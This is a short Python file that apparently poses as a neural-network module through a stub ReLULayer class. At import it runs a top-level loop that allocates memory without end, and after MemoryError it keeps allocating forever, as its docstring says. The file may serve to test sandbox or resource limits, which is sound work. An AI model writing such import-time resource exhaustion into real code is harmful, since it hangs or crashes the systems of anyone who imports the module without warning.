"""Takes all memory at import, and keeps it."""
KEPT = []
try:
    while True:
        KEPT.append(bytearray(2**24))
except MemoryError:
    while True:
        KEPT.append([0] * 1000)


class ReLULayer:
    pass
